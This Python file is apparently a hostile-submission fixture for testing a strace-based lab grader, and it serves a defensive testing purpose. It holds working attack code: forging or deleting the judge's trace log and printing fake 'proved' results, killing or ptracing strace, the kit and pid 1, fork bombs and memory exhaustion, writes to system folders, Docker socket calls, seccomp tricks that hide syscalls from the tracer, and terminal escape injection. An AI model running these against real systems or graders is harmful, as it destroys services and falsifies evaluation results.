"""A server that attacks its judge, or the machine: hostile.py BASE KIND MARK TRACE_LOG.

BASE is what the kernel sees of it otherwise: "blocking" serves one client at a time, which lab 3
is to prove; "threaded" serves them all at once, which must never be proved. MARK is in the names
of all files and processes that it leaves behind. What comes of each KIND stands in hostile.tsv.
"""

import ctypes
import fcntl
import os
import resource
import signal
import socket
import struct
import subprocess
import sys
import threading
import time

from commands import listen, resp, serve

BASE, KIND, MARK, TRACE = sys.argv[1:5]
LIBC = ctypes.CDLL(None, use_errno=True)


# Who else is there.


def status(field, pid="self"):
    with open("/proc/%s/status" % pid) as lines:
        return next(line for line in lines if line.startswith(field)).split()[1]


def tracer():
    pid = int(status("TracerPid:"))
    if pid == 0:
        raise OSError("sees no tracer")
    return pid


def judge():
    """The kit: strace's parent."""
    return int(status("PPid:", tracer()))


# Attacks on the log.


def replace(make):
    os.unlink(TRACE)
    make(TRACE)


def forge():
    with open(TRACE, "r+b") as log:
        log.write(b"1 1700000000.000000 +++ exited with 0 +++\n" * 1000)


def write_to_all_files_of(pid):
    """Its log may have no name: it is open all the same."""
    for descriptor in os.listdir("/proc/%d/fd" % pid):
        path = "/proc/%d/fd/%s" % (pid, descriptor)
        target = os.readlink(path)
        if "trace" in target or "pipe" in target:
            with open(path, "wb") as file:
                file.write(b"1 1700000000.000000 +++ exited with 0 +++\n")


def read_zeros():
    """Ten megabytes of log: strace shows the first 512 bytes of each call."""
    zeros = os.open("/dev/zero", os.O_RDONLY)
    for _ in range(10000):
        os.read(zeros, 512)


# Attacks on strace and the kit.


def ptrace(request, pid):
    if LIBC.ptrace(request, pid, 0, 0) == -1:
        raise OSError(ctypes.get_errno(), "ptrace")


def write_memory(pid):
    with open("/proc/%d/mem" % pid, "r+b") as memory:
        memory.seek(int(open("/proc/%d/maps" % pid).readline().split("-")[0], 16))
        memory.write(b"\0")


def limit(pid):
    resource.prlimit(pid, resource.RLIMIT_FSIZE, (0, 0))


# Attacks on the machine.


def fork_bomb():
    for _ in range(2000):
        if os.fork() == 0:
            time.sleep(600)


def threads():
    for _ in range(2000):
        threading.Thread(target=time.sleep, args=[600], daemon=True).start()


def memory():
    taken = []
    while True:
        taken.append(b"x" * (64 << 20))


def shared_memory():
    with open("/dev/shm/" + MARK, "wb") as file:
        while True:
            file.write(b"x" * (1 << 20))


def big_file():
    signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
    with open(MARK, "wb") as file:
        try:
            file.seek(2 << 30)
            file.write(b"x")
        finally:
            os.unlink(MARK)


def descriptors():
    while True:
        os.open("/dev/null", os.O_RDONLY)


def burn():
    def spin():
        while True:
            pass

    for _ in range(4):
        if os.fork() == 0:
            spin()


def write(*folders):
    for folder in folders:
        with open(os.path.join(os.path.expanduser(folder), MARK), "w") as file:
            file.write(MARK)


def mount():
    if LIBC.mount(b"none", b"/mnt", b"tmpfs", 0, None) == -1:
        raise OSError(ctypes.get_errno(), "mount")


def talk_to_docker():
    with socket.socket(socket.AF_UNIX) as docker:
        docker.connect("/var/run/docker.sock")
        docker.sendall(b"POST /containers/create HTTP/1.1\r\nHost: x\r\n\r\n")


def see_others():
    others = [int(name) for name in os.listdir("/proc") if name.isdigit()]
    if len(others) > 3:
        raise SystemExit("sees %d processes" % len(others))


# What is left behind.


def sleeper(**how):
    return subprocess.Popen(["sleep", "600." + MARK], stdin=subprocess.DEVNULL, **how)


def hidden_children():
    for _ in range(20):
        sleeper(env={}, start_new_session=True, close_fds=True)


def daemon():
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            for number in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT):
                signal.signal(number, signal.SIG_IGN)
            os.execve("/bin/sh", ["sh", "-c", "trap '' TERM; sleep 600.%s; :" % MARK], {})
        os._exit(0)


def keeps_forking():
    """A child whose parent has just ended, and so on."""
    if os.fork() == 0:
        while True:
            if os.fork():
                os._exit(0)


def keep_port(listener):
    os.set_inheritable(listener.fileno(), True)
    sleeper(close_fds=False, env={})


# What is out of strace's sight.


def filter_calls(number, action):
    """Answers one call by a seccomp filter, which the kernel asks before strace's own."""
    program = b"".join(
        struct.pack("HBBI", *line)
        for line in (
            (0x20, 0, 0, 0),  # load the call's number
            (0x15, 0, 1, number),  # if it is this one,
            (0x06, 0, 0, action),  # answer so,
            (0x06, 0, 0, 0x7FFF0000),  # else let it go on
        )
    )
    code = ctypes.create_string_buffer(program)
    prog = struct.pack("HxxxxxxP", 4, ctypes.addressof(code))
    LIBC.prctl(38, 1, 0, 0, 0)
    listener = LIBC.syscall(317, 1, 8 if action == 0x7FC00000 else 0, prog)
    if listener == -1:
        raise OSError(ctypes.get_errno(), "seccomp")
    return listener


def hide_accepts():
    """A thread of its own lets every accept4(2) go on: the kernel does not ask strace any more."""
    listener = filter_calls(288, 0x7FC00000)

    def supervise():
        while True:
            request = bytearray(80)
            fcntl.ioctl(listener, 0xC0502100, request)
            fcntl.ioctl(listener, 0xC0182101, bytearray(request[:8] + struct.pack("qiI", 0, 0, 1)))

    return supervise


# At the start, before it listens.
FIRST = {
    "never-listens": lambda: time.sleep(600),
    "ends-at-once": lambda: sys.exit(0),
    "says-ptrace-is-forbidden": lambda: fail("strace: PTRACE_TRACEME: Operation not permitted"),
    "says-bwrap-failed": lambda: fail("bwrap: No permissions to create new namespace"),
    "says-proved": lambda: fail("proved: lab 03-many-clients, 4 of 4 claims proved"),
    "kills-strace-first": lambda: os.kill(tracer(), signal.SIGKILL),
    "becomes-another": lambda: os.execvp("sleep", ["sleep", "600." + MARK]),
    "aborts-first": os.abort,
    "prints-a-lot": lambda: [os.write(1, b"x" * (1 << 20)) for _ in range(256)],
}

# After the first client has been accepted and answered once.
LATER = {
    # the log
    "truncates-the-trace": lambda: os.truncate(TRACE, 0),
    "removes-the-trace": lambda: os.unlink(TRACE),
    "forges-the-trace": forge,
    "makes-a-pipe-of-the-trace": lambda: replace(os.mkfifo),
    "makes-a-folder-of-the-trace": lambda: replace(os.mkdir),
    "makes-zeros-of-the-trace": lambda: replace(lambda path: os.symlink("/dev/zero", path)),
    "writes-to-files-of-strace": lambda: write_to_all_files_of(tracer()),
    "writes-to-files-of-the-kit": lambda: write_to_all_files_of(judge()),
    # strace and the kit
    "kills-strace": lambda: os.kill(tracer(), signal.SIGKILL),
    "interrupts-strace": lambda: os.kill(tracer(), signal.SIGINT),
    "stops-strace": lambda: os.kill(tracer(), signal.SIGSTOP),
    "stops-the-kit": lambda: os.kill(judge(), signal.SIGSTOP),
    "kills-the-kit": lambda: os.kill(judge(), signal.SIGKILL),
    "kills-everybody": lambda: os.kill(-1, signal.SIGKILL),
    "traces-strace": lambda: ptrace(16, tracer()),
    "traces-the-kit": lambda: ptrace(16, judge()),
    "writes-memory-of-strace": lambda: write_memory(tracer()),
    "writes-memory-of-pid-1": lambda: write_memory(1),
    "limits-strace": lambda: limit(tracer()),
    "kills-pid-1": lambda: os.kill(1, signal.SIGKILL),
    "signals-its-group": lambda: os.kill(0, signal.SIGKILL),
    "sees-others": see_others,
    # the machine
    "forks-without-end": fork_bomb,
    "starts-threads-without-end": threads,
    "takes-all-memory": memory,
    "fills-dev-shm": shared_memory,
    "writes-a-big-file": big_file,
    "opens-without-end": descriptors,
    "burns": burn,
    "writes-to-home": lambda: write("~"),
    "writes-to-the-system": lambda: write("/usr", "/etc", "/var"),
    "writes-to-tmp": lambda: write("/tmp", "/var/tmp", "/dev/shm"),
    "writes-to-the-kit": lambda: write(os.path.dirname(os.path.dirname(os.path.dirname(TRACE)))),
    "writes-to-work": lambda: write(os.path.dirname(TRACE)),
    "mounts": mount,
    "becomes-root": lambda: os.setuid(0),
    "changes-a-sysctl": lambda: open("/proc/sys/kernel/core_pattern", "w").write("x"),
    "talks-to-docker": talk_to_docker,
    "makes-a-device": lambda: os.mknod(MARK, 0o666 | 0o060000, os.makedev(254, 0)),
    # what is left behind
    "leaves-children": hidden_children,
    "leaves-a-daemon": daemon,
    "keeps-forking": keeps_forking,
    "ignores-sigterm": lambda: signal.signal(signal.SIGTERM, signal.SIG_IGN),
    # how much it does
    "makes-the-trace-long": read_zeros,
    # how it ends
    "segfaults": lambda: ctypes.string_at(0),
    "aborts": os.abort,
    "exits": lambda: os._exit(0),
    "is-killed-by-a-filter": lambda: (filter_calls(39, 0x80000000), os.getpid()),
    "stops-itself": lambda: os.kill(os.getpid(), signal.SIGSTOP),
    # out of sight
    "hides-accepts-later": lambda: threading.Thread(target=hide_accepts(), daemon=True).start(),
    # output
    "prints-without-end": lambda: threading.Thread(target=print_for_ever, daemon=True).start(),
    "prints-escapes": lambda: print("\x1b]0;owned\x07\x1b[2J\x9b31m", flush=True),
    "prints-no-text": lambda: sys.stdout.buffer.write(bytes(range(256)) * 4096),
    "is-named-by-escapes": lambda: LIBC.prctl(15, b"\x1b[2Jowned", 0, 0, 0),
}

# In place of the first reply.
REPLIES = {
    "sends-lines-without-end": lambda client: send_for_ever(client, b"+OK\r\n" * 10000),
    "sends-a-line-without-end": lambda client: send_for_ever(client, b"x" * 65536),
    "announces-too-much": lambda client: client.sendall(b"$999999999\r\n"),
    "announces-too-many": lambda client: client.sendall(b"*2147483647\r\n"),
    "announces-less-than-nothing": lambda client: client.sendall(b"$-7\r\n"),
    "nests-deeply": lambda client: client.sendall(b"*1\r\n" * 100000),
    "replies-with-escapes": lambda client: client.sendall(b"\x1b]52;c;b3duZWQ=\x07\x1b[2J\r\n"),
    "replies-with-zeros": lambda client: client.sendall(bytes(4096)),
    "says-that-it-is-proved": lambda client: client.sendall(b"proved: 4 of 4 claims proved\r\n"),
    "hangs-up": lambda client: None,
    "resets": lambda client: client.setsockopt(
        socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0)
    ),
    "never-replies": lambda client: time.sleep(600),
}


def fail(words):
    print(words, file=sys.stderr, flush=True)
    sys.exit(1)


def print_for_ever():
    while True:
        sys.stdout.write("x" * 4096)


def send_for_ever(client, bytes_):
    while True:
        client.sendall(bytes_)


def attack(deed, *arguments):
    """An attack that does not succeed leaves an ordinary server."""
    try:
        deed(*arguments)
    except (OSError, MemoryError, RuntimeError, ConnectionError) as failure:
        print("%s: %s" % (KIND, failure), flush=True)


def serve_each(client):
    if BASE == "threaded":
        threading.Thread(target=serve, args=[client], daemon=True).start()
    else:
        serve(client)


if KIND in FIRST:
    attack(FIRST[KIND])
if KIND == "hides-accepts":
    threading.Thread(target=hide_accepts(), daemon=True).start()
listener = listen()
if KIND == "keeps-its-port":
    keep_port(listener)
while True:
    client, _ = listener.accept()
    if KIND in LATER or KIND in REPLIES:
        request = client.recv(4096)
        if KIND in REPLIES:
            attack(REPLIES[KIND], client)
            client.close()
        else:
            client.sendall(resp(request))
            attack(LATER[KIND])
            serve_each(client)
        KIND = "has done it"
    else:
        serve_each(client)
